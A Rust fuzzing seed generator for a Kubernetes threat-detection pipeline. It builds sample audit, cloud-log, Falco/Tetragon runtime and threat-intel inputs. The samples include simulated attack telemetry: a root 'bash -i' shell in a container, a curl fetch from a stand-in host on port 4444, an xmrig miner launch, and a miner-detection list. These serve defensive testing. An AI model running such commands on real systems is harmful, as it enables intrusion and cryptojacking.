//! Writes the seed corpus, `corpus/TARGET/NAME`, from the bundled example (examples/) and shapes
//! written here: one seed per input shape each target reads, so that fuzzing starts past the
//! outer syntax. `cargo run --manifest-path fuzz/Cargo.toml --example seeds` from the repository.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write as _;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use vigil_enrich::{Enricher, ThreatIntel};
use vigil_pipeline::{Pipeline, Step};
use vigil_schemas::{Codec, Event};
use vigil_settings::Settings;

const DAY: &str = include_str!("../../examples/audit/day-of-traffic.jsonl");
const DNS: &str = include_str!("../../examples/runtime/dns.jsonl");
const SETTINGS: &str = include_str!("../../examples/vigil.toml");
const RULES: &str = include_str!("../../examples/rules/shop.toml");
const THREAT_LIST: &str = include_str!("../../examples/intel/threat-list.txt");
const TOR_EXITS: &str = include_str!("../../examples/intel/tor-exit-addresses.txt");
const IP_RANGES: &str = include_str!("../../examples/intel/ip-ranges.json");

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

struct Corpus {
    root: PathBuf,
}

impl Corpus {
    fn seed(&self, target: &str, name: &str, bytes: impl AsRef<[u8]>) {
        let dir = self.root.join(target);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(name), bytes).unwrap();
    }

    fn seed_with(&self, target: &str, name: &str, choice: u8, bytes: impl AsRef<[u8]>) {
        let mut with = vec![choice];
        with.extend_from_slice(bytes.as_ref());
        self.seed(target, name, with);
    }
}

/// The first `n` lines of the example day that are audit events of interest: an exec, a secret
/// read, an anonymous call, a create, whatever comes first.
fn day_lines(n: usize) -> Vec<&'static str> {
    DAY.lines().take(n).collect()
}

fn runtime_lines() -> Vec<String> {
    let falco = r#"{"output":"10:00:00.000000000: Notice A shell was spawned in a container with an attached terminal (user=root container_id=8522184d40a6 image=shop/web shell=bash parent=runc cmdline=bash -i)","priority":"Notice","rule":"Terminal shell in container","time":"2024-03-12T10:00:00.000000000Z","output_fields":{"container.id":"8522184d40a6","container.image.repository":"111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/web","container.image.tag":"2024.03.11-3","evt.time":1710237600000000000,"k8s.ns.name":"shop","k8s.pod.name":"web-5c4b8d7f9-h2k9w","proc.cmdline":"bash -i","proc.name":"bash","proc.exepath":"/bin/bash","proc.pid":4242,"proc.ppid":4241,"proc.pname":"runc","user.name":"root","user.uid":0},"hostname":"ip-10-0-1-23.ec2.internal","source":"syscall","tags":["container","shell","mitre_execution"]}"#;
    let tetragon_connect = r#"{"process_kprobe":{"process":{"exec_id":"aXAtMTAtMC0xLTIzOjE6NDI0Mg==","pid":4242,"uid":0,"binary":"/usr/bin/curl","arguments":"-s http://198.51.100.7:4444/x","start_time":"2024-03-12T10:00:01Z","pod":{"namespace":"shop","name":"web-5c4b8d7f9-h2k9w","container":{"id":"containerd://8522184d40a65bb52f6b364d053bfe9db705d2f5f2ed603f9a9eb6044a227e4e","name":"web","image":{"name":"shop/web:1"}}}},"parent":{"exec_id":"aXAtMTAtMC0xLTIzOjE6NDI0MQ==","pid":4241,"binary":"/bin/sh"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.0.1.50","daddr":"198.51.100.7","sport":40000,"dport":4444}}],"action":"KPROBE_ACTION_POST"},"node_name":"ip-10-0-1-23.ec2.internal","time":"2024-03-12T10:00:01Z"}"#;
    let native_exec = r#"{"schema":"vigil.runtime/v1","time":"2024-03-12T10:00:02Z","kind":"process_exec","node":"ip-10-0-1-23.ec2.internal","process":{"pid":4243,"binary":"/tmp/xmrig","args":["--url","stratum+tcp://pool.example:3333"],"uid":0},"parent":{"pid":4242,"binary":"/bin/sh"},"container":{"id":"containerd://abc","name":"web","image":"shop/web:1"},"pod":{"name":"web-1","namespace":"shop"}}"#;
    let mut lines = vec![
        falco.to_owned(),
        tetragon_connect.to_owned(),
        native_exec.to_owned(),
    ];
    lines.extend(DNS.lines().take(2).map(str::to_owned));
    lines
}

fn write_event_seeds(corpus: &Corpus, target: &str) {
    let lines = day_lines(40);
    let one = lines.first().copied().unwrap_or_default();
    corpus.seed(target, "event.json", one);
    corpus.seed(target, "json-lines.jsonl", lines[..8].join("\n"));
    corpus.seed(
        target,
        "event-list.json",
        format!(
            r#"{{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{{}},"items":[{}]}}"#,
            lines[..3].join(",")
        ),
    );
    let value: serde_json::Value = serde_json::from_str(one).unwrap();
    corpus.seed(
        target,
        "pretty.json",
        serde_json::to_string_pretty(&value).unwrap(),
    );
    corpus.seed(target, "array.json", format!("[{}]", lines[..3].join(",")));
    corpus.seed(
        target,
        "gzip.jsonl.gz",
        gzip(lines[..4].join("\n").as_bytes()),
    );
    corpus.seed(
        target,
        "exported-line.log",
        format!("2024-03-12T00:01:14.000Z {one}"),
    );
    let cloudwatch = |first: usize| {
        serde_json::json!({
            "messageType": "DATA_MESSAGE",
            "owner": "111122223333",
            "logGroup": "/aws/eks/shop-prod/cluster",
            "logStream": "kube-apiserver-audit-0123456789abcdef",
            "subscriptionFilters": ["vigil"],
            "logEvents": lines[first..first + 2].iter().enumerate().map(|(i, line)| serde_json::json!({
                "id": format!("3{i}"),
                "timestamp": 1_710_201_674_000_i64,
                "message": line,
            })).collect::<Vec<_>>(),
        })
        .to_string()
    };
    corpus.seed(target, "cloudwatch.json", cloudwatch(0));
    corpus.seed(
        target,
        "firehose-concatenated.json",
        format!("{}{}", cloudwatch(0), cloudwatch(2)),
    );
    corpus.seed(
        target,
        "cloudwatch-control.json",
        r#"{"messageType":"CONTROL_MESSAGE","owner":"CloudwatchLogs","logGroup":"","logStream":"","subscriptionFilters":[],"logEvents":[{"id":"","timestamp":1710201674000,"message":"CWL CONTROL MESSAGE: Checking health of destination Firehose."}]}"#,
    );
    corpus.seed(target, "cloudwatch.json.gz", gzip(cloudwatch(4).as_bytes()));
    corpus.seed(
        target,
        "aks.json",
        serde_json::json!({"records": [
            {"category": "kube-audit", "time": "2024-03-12T00:01:14.0110000Z",
             "resourceId": "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD",
             "properties": {"log": lines[5], "stream": "stdout", "pod": "kube-apiserver-abc"}},
            {"category": "kube-apiserver", "time": "2024-03-12T00:01:15Z", "resourceId": "/x/managedClusters/aks-prod",
             "properties": {"log": "I0312 started", "stream": "stderr"}},
        ]})
        .to_string(),
    );
    let gke = serde_json::json!({
        "insertId": "abc",
        "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
        "timestamp": "2024-03-12T00:02:00.000Z",
        "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "gke-prod", "location": "us-central1", "project_id": "p"}},
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "methodName": "io.k8s.core.v1.pods.exec.create",
            "resourceName": "core/v1/namespaces/shop/pods/web-1/exec",
            "serviceName": "k8s.io",
            "authenticationInfo": {"principalEmail": "dev@example.com"},
            "requestMetadata": {"callerIp": "198.51.100.7", "callerSuppliedUserAgent": "kubectl/v1.29.0"},
            "status": {"code": 0},
            "request": {"command": ["sh", "-c", "id"], "container": "web"}
        }
    });
    corpus.seed(target, "gke.json", gke.to_string());
    corpus.seed(
        target,
        "pubsub-push.json",
        serde_json::json!({"message": {"data": b64(gke.to_string().as_bytes()), "messageId": "1", "publishTime": "2024-03-12T00:02:01Z"}, "subscription": "projects/p/subscriptions/s"}).to_string(),
    );
    let runtime = runtime_lines();
    corpus.seed(target, "falco.json", &runtime[0]);
    corpus.seed(target, "tetragon.json", &runtime[1]);
    corpus.seed(target, "native.json", &runtime[2]);
    corpus.seed(target, "runtime-mixed.jsonl", runtime.join("\n"));
}

fn write_gateway_seeds(corpus: &Corpus) {
    let lines = day_lines(4);
    let list = format!(
        r#"{{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{}]}}"#,
        lines.join(",")
    );
    corpus.seed_with("gateway", "webhook.json", 0, &list);
    corpus.seed_with("gateway", "webhook-event.json", 0, lines[0]);
    let record = serde_json::json!({
        "messageType": "DATA_MESSAGE", "owner": "111122223333",
        "logGroup": "/aws/eks/shop-prod/cluster", "logStream": "kube-apiserver-audit-1",
        "subscriptionFilters": ["vigil"],
        "logEvents": [{"id": "1", "timestamp": 1_710_201_674_000_i64, "message": lines[1]}],
    })
    .to_string();
    let firehose = serde_json::json!({
        "requestId": "a1b2c3", "timestamp": 1_710_201_675_000_i64,
        "records": [{"data": b64(&gzip(record.as_bytes()))}, {"data": b64(record.as_bytes())}],
    });
    corpus.seed_with("gateway", "firehose.json", 1, firehose.to_string());
    corpus.seed_with("gateway", "runtime.jsonl", 2, runtime_lines().join("\n"));
    corpus.seed_with("gateway", "gzip.gz", 3, gzip(list.as_bytes()));
}

fn write_settings_and_rule_seeds(corpus: &Corpus) {
    let events = day_lines(20).join("\n");
    corpus.seed(
        "settings",
        "example-with-rules",
        format!("{SETTINGS}\0{RULES}"),
    );
    corpus.seed(
        "settings",
        "example-with-list",
        format!("{SETTINGS}\0{THREAT_LIST}"),
    );
    corpus.seed(
        "settings",
        "suppression",
        "[[suppression]]\nname = \"ci\"\ntype = \"Policy:Kubernetes/*\"\nwhen = [{ field = \"resource.namespace\", eq = \"ci\" }]\n\0",
    );
    corpus.seed("rules", "shop", format!("{RULES}\0{events}"));
    corpus.seed(
        "rules",
        "runtime-and-list",
        format!(
            "[[list]]\nname = \"miners\"\nitems = [\"xmrig\", \"minerd\"]\n\n[[rule]]\nid = \"miner\"\ntype = \"CryptoCurrency:Runtime/OurMiner\"\nseverity = \"High\"\ntitle = \"{{process.name}} ran\"\ndescription = \"{{process.executable_path}} in {{pod.name}}\"\nsource = \"runtime\"\nwhen = [{{ field = \"process.name\", in = \"@miners\" }}, {{ field = \"kind\", eq = \"process_exec\" }}]\n\0{}",
            runtime_lines().join("\n")
        ),
    );
}

fn write_list_seeds(corpus: &Corpus) {
    corpus.seed_with("lists", "threat-list.txt", 0, THREAT_LIST);
    corpus.seed_with("lists", "tor-exits.txt", 1, TOR_EXITS);
    corpus.seed_with(
        "lists",
        "stix.json",
        2,
        r#"{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","spec_version":"2.1","id":"indicator--1","pattern":"[ipv4-addr:value = '198.51.100.7'] OR [ipv6-addr:value = '2001:db8::/32']","pattern_type":"stix","valid_from":"2024-01-01T00:00:00Z"},{"type":"ipv4-addr","id":"ipv4-addr--1","value":"203.0.113.0/24"},{"type":"indicator","id":"indicator--2","revoked":true,"pattern":"[ipv4-addr:value = '192.0.2.1']"}]}"#,
    );
    corpus.seed_with(
        "lists",
        "otx.csv",
        3,
        "Indicator type,Indicator,Description\nIPv4,198.51.100.7,scanner\nCIDR,203.0.113.0/24,\nIPv6,2001:db8::1,\"quoted, with comma\"\ndomain,evil.example,\n",
    );
    corpus.seed_with(
        "lists",
        "tor-consensus.txt",
        4,
        "network-status-version 3\nr relay1 AAAAAAAAAAAAAAAAAAAAAAAAAAA BBBBBBBBBBBBBBBBBBBBBBBBBBB 2024-03-12 10:00:00 198.51.100.7 9001 0\na [2001:db8::7]:9001\ns Exit Fast Running Valid\n198.51.100.8:443\n",
    );
    corpus.seed_with(
        "lists",
        "onionoo.json",
        4,
        r#"{"version":"8.0","relays":[{"nickname":"r","fingerprint":"A","or_addresses":["198.51.100.9:9001","[2001:db8::9]:443"],"exit_addresses":["198.51.100.10"]}]}"#,
    );
    corpus.seed_with(
        "lists",
        "geolite-asn.csv",
        5,
        "network,autonomous_system_number,autonomous_system_organization\n198.51.100.0/24,64500,\"Example, Inc.\"\n2001:db8::/32,64501,DOC-NET\n",
    );
    corpus.seed_with(
        "lists",
        "iptoasn.tsv",
        5,
        "198.51.100.0\t198.51.100.255\t64500\tUS\tEXAMPLE-AS\n0.0.0.0\t0.255.255.255\t0\tNone\tNot routed\n",
    );
    corpus.seed_with("lists", "aws-ip-ranges.json", 6, IP_RANGES);
    corpus.seed_with(
        "lists",
        "gcp-cloud.json",
        6,
        r#"{"syncToken":"1","creationTime":"2024-03-12T00:00:00","prefixes":[{"ipv4Prefix":"34.1.0.0/16","service":"Google Cloud","scope":"us-central1"},{"ipv6Prefix":"2600:1900::/28","service":"Google Cloud","scope":"us-central1"}]}"#,
    );
    corpus.seed_with(
        "lists",
        "azure-service-tags.json",
        6,
        r#"{"changeNumber":1,"cloud":"Public","values":[{"name":"AzureCloud","id":"AzureCloud","properties":{"addressPrefixes":["20.0.0.0/8","2603:1000::/24"]}}]}"#,
    );
    corpus.seed_with(
        "lists",
        "clusters.toml",
        7,
        "default_cluster = \"fuzz\"\n\n[[clusters]]\nname = \"fuzz\"\naccount_id = \"111122223333\"\nregion = \"us-east-1\"\nvpc_id = \"vpc-1\"\nvpc_cidrs = [\"10.0.0.0/16\"]\npod_cidrs = [\"100.64.0.0/10\"]\npublic_ips = [\"198.51.100.7/32\"]\n",
    );
}

/// Avro records of every kind and the checkpointed state, from running the example day.
fn write_record_seeds(corpus: &Corpus) {
    let codec = Codec::new().unwrap();
    let settings = Settings::default();
    let mut pipeline = Pipeline::new(&settings, ThreatIntel::default()).unwrap();
    let mut enricher = Enricher::default();
    let mut audit = None;
    let mut runtime = None;
    let mut enriched = Vec::new();
    let mut detections = Vec::new();
    let input = format!("{}\n{}", DAY, runtime_lines().join("\n"));
    pipeline.read(input.as_bytes(), &mut |step| match step {
        Step::Event(event) => {
            match event {
                Event::Audit(event) if audit.is_none() => {
                    audit = Some(codec.encode(event.as_ref()).unwrap());
                }
                Event::Runtime(event) if runtime.is_none() => {
                    runtime = Some(codec.encode(event.as_ref()).unwrap());
                }
                _ => {}
            }
            if enriched.len() < 2 {
                enriched.push(codec.encode(&enricher.enrich(event.clone())).unwrap());
            }
        }
        Step::Detected { detection, .. } if detections.len() < 3 => {
            detections.push(codec.encode(detection).unwrap());
        }
        _ => {}
    });
    corpus.seed_with("avro", "audit-event", 0, audit.unwrap());
    corpus.seed_with("avro", "runtime-event", 1, runtime.unwrap());
    for (i, record) in enriched.iter().enumerate() {
        corpus.seed_with("avro", &format!("enriched-event-{i}"), 2, record);
    }
    for (i, record) in detections.iter().enumerate() {
        corpus.seed_with("avro", &format!("detection-{i}"), 3, record);
    }
    for (i, finding) in pipeline.findings().iter().take(3).enumerate() {
        corpus.seed_with(
            "avro",
            &format!("finding-{i}"),
            4,
            codec.encode(*finding).unwrap(),
        );
    }

    let mut state = Vec::new();
    let mut stages = pipeline.into_stages();
    let mut detect_state = Vec::new();
    stages.engine.drain_state(&mut detect_state);
    state.extend(
        detect_state
            .into_iter()
            .map(|entry| (entry.key, entry.value)),
    );
    stages.enricher.drain_state(&mut state);
    let events = day_lines(8).join("\n");
    // A few entries per seed: each seed stays small, and every kind of state is in one.
    for (i, chunk) in state.chunks(8).take(12).enumerate() {
        corpus.seed(
            "checkpoint",
            &format!("state-{i}"),
            vigil_fuzz::checkpoint_input(chunk, events.as_bytes()),
        );
    }
}

fn main() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
    let corpus = Corpus { root };
    write_event_seeds(&corpus, "ingest");
    write_event_seeds(&corpus, "pipeline");
    write_gateway_seeds(&corpus);
    write_settings_and_rule_seeds(&corpus);
    write_list_seeds(&corpus);
    write_record_seeds(&corpus);
}
